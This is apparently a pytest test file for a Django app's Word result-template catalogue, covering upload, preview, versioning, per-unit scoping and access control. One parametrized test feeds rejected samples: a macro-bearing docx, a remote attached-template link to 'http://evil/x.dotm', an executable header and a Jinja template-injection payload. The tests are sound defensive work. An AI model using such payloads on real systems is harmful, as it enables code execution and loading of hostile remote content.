import html as entities
import io
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from motcua.desk.conftest import NOW
from motcua.documents.builders import a_pdf
from motcua.dossiers import builders
from motcua.dossiers.builders import BRANCH, KEY
from motcua.journal import queries as journal
from motcua.letters import queries as letters
from motcua.letters.models import ResultTemplate

ADDRESS = "/lam-viec/danh-muc/mau-van-ban/"


@pytest.fixture(autouse=True)
def kept_here(settings, tmp_path):
    settings.STORAGES = {**settings.STORAGES, "documents": {**settings.STORAGES["documents"], "OPTIONS": {"location": tmp_path}}}


def word_file(*lines, **parts):
    document, kept = docx.Document(), io.BytesIO()
    for line in lines:
        document.add_paragraph(line)
    document.save(kept)
    with zipfile.ZipFile(kept, "a") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_rels_", "_rels"), content)
    return kept.getvalue()


GOOD = word_file("GIẤY CHỨNG NHẬN", "Cấp cho {{ owner }}, hồ sơ {{ number }}", "Cửa hàng: {{ answers.shop_name }}; {{ khong_co }}")


def send(client, content=GOOD, file="mau.docx", **more):
    facts = {"name": "Giấy chứng nhận", "procedure_key": KEY, "unit": "", "valid_from": "01/04/2024"} | more
    return client.post(ADDRESS, facts | {"file": SimpleUploadedFile(file, content)})


def read(answer):
    return entities.unescape(answer.content.decode())


def text_of(answer):
    return "\n".join(one.text for one in docx.Document(io.BytesIO(b"".join(answer))).paragraphs)


def test_a_template_is_brought_in_tried_used_and_withdrawn(office, control, desk):
    client, officer = desk(control), desk(office.officer)
    dossier = builders.a_dossier(office, until="assign")
    address = f"/lam-viec/ho-so/{dossier.number}/draft_result/"
    assert "Giấy chứng nhận" not in read(officer.get(address)).partition("Cách làm")[2].partition("Quyết định")[0]
    answer = send(client)
    assert answer.status_code == 302
    template = ResultTemplate.objects.get()
    page = read(client.get(answer["Location"]))
    assert "khong_co" in page and "chỗ này là một dòng chấm" in page
    tried = text_of(client.get(f"{ADDRESS}{template.pk}/thu.docx"))
    assert "Trần Thị Ví Dụ" in tried and "[Tên cơ sở" in tried and "……" in tried
    assert b"".join(client.get(f"{ADDRESS}{template.pk}/mau.docx")) == GOOD

    assert "Tạo từ mẫu: Giấy chứng nhận" in read(officer.get(address))
    sent = officer.post(address, {"seen": dossier.seq, "way": template.subject})
    assert sent.status_code == 302
    draft = dossier.drafts.get()
    assert draft.template == template.subject
    drafted = text_of(officer.get(f"/lam-viec/ho-so/{dossier.number}/tep/{draft.file_id}/"))
    assert dossier.number in drafted and "Cấp cho Trần Thị Bình" in drafted and "Vật tư Bình Minh" in drafted

    assert client.post(f"{ADDRESS}{template.pk}/").status_code == 302
    assert "Giấy chứng nhận" not in read(officer.get(address)).partition("Cách làm")[2].partition("Quyết định")[0]
    assert client.post(f"{ADDRESS}{template.pk}/").status_code == 422
    assert [one.kind for one in journal.events(template.subject)] == ["template.added", "template.withdrawn"]


def test_a_version_ends_when_the_next_begins(office, control, desk):
    client = desk(control)
    send(client)
    assert send(client, word_file("Bản 2"), valid_from="10/04/2024").status_code == 302
    old, new = ResultTemplate.objects.order_by("pk")
    assert (str(old.valid_to), new.valid_to) == ("2024-04-10", None)
    dossier = builders.a_dossier(office, until="submit")
    assert letters.templates_for(dossier, NOW) == [old]
    assert letters.templates_for(dossier, NOW.replace(day=10)) == [new]
    assert "Đã có phiên bản dùng từ" in read(send(client, valid_from="09/04/2024"))
    assert send(client, word_file("Bản 3"), valid_from="10/04/2024").status_code == 302, "mended on the day itself"
    new.refresh_from_db()
    wrong, new = new, ResultTemplate.objects.latest("pk")
    assert (str(wrong.valid_to), letters.templates_for(dossier, NOW.replace(day=10))) == ("2024-04-10", [new])
    assert "không dùng" in read(client.get(f"{ADDRESS}{wrong.pk}/"))
    assert f"tiep={new.pk}" in read(client.get(f"{ADDRESS}{new.pk}/"))
    assert "Phiên bản mới của mẫu" in read(client.get(f"{ADDRESS}?tiep={new.pk}"))


def test_each_procedure_and_unit_has_its_own(office, control, desk):
    client = desk(control)
    for name, facts in {"mọi nơi": {"procedure_key": ""}, "chi cục": {"procedure_key": "", "unit": BRANCH},
                        "sở": {"procedure_key": "", "unit": "SNN"}, "nơi khác": {"procedure_key": "", "unit": "SNN-CCTL"},
                        "thủ tục": {}, "thủ tục khác": {"procedure_key": "1.007931-province"}}.items():  # fmt: skip
        assert send(client, name=name, **facts).status_code == 302
    found = [one.name for one in letters.templates_for(builders.a_dossier(office), NOW)]
    assert found[0] == "thủ tục" and found[-1] == "mọi nơi" and set(found[1:-1]) == {"chi cục", "sở"}


MACROS = word_file("x", word__vbaProject="x")
FETCHES = word_file("x", **{"word___rels_x.xml.rels": '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
                            'Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'})  # fmt: skip


@pytest.mark.parametrize("content, name, said", [
    (MACROS, "a.docx", "Tệp có macro"), (a_pdf("x"), "a.pdf", "Mẫu phải là tệp Word"),
    (b"MZ\x00", "a.docx", "không được nhận"), (FETCHES, "a.docx", "lấy nội dung từ nơi khác"),
    (word_file("{{ owner "), "a.docx", "Chỗ điền trong mẫu viết chưa đúng"),
    (word_file("{% for x in facts %}"), "a.docx", "Chỗ điền trong mẫu viết chưa đúng"),
    (word_file("{{ owner.__class__.__mro__[1].__subclasses__() }}"), "a.docx", "Chỗ điền trong mẫu viết chưa đúng"),
    (word_file("{{ 1 / 0 }}"), "a.docx", "Chỗ điền trong mẫu viết chưa đúng"),
])  # fmt: skip
def test_what_is_no_template_is_refused_in_a_sentence(office, control, desk, content, name, said):
    answer = send(desk(control), content, name)
    assert answer.status_code == 422 and said in read(answer), read(answer)
    assert not ResultTemplate.objects.exists()


def test_who_does_not_look_after_the_catalogue_finds_nothing(office, control, desk):
    send(desk(control))
    pk = ResultTemplate.objects.get().pk
    for path in ("", f"{pk}/", f"{pk}/mau.docx", f"{pk}/thu.docx"):
        for actor, status in ((office.colleague, 404), (office.stranger, 404), (None, 302)):
            assert desk(actor).get(ADDRESS + path).status_code == status, path
            assert desk(actor).post(ADDRESS + path).status_code == status, path
    for path in ("999999999/", "99999999999/", f"{pk}/thu.exe", "?tiep=x"):
        assert desk(control).get(ADDRESS + path).status_code in {200, 404}
    assert desk(control).get(f"{ADDRESS}{pk}/thu.exe").status_code == 404
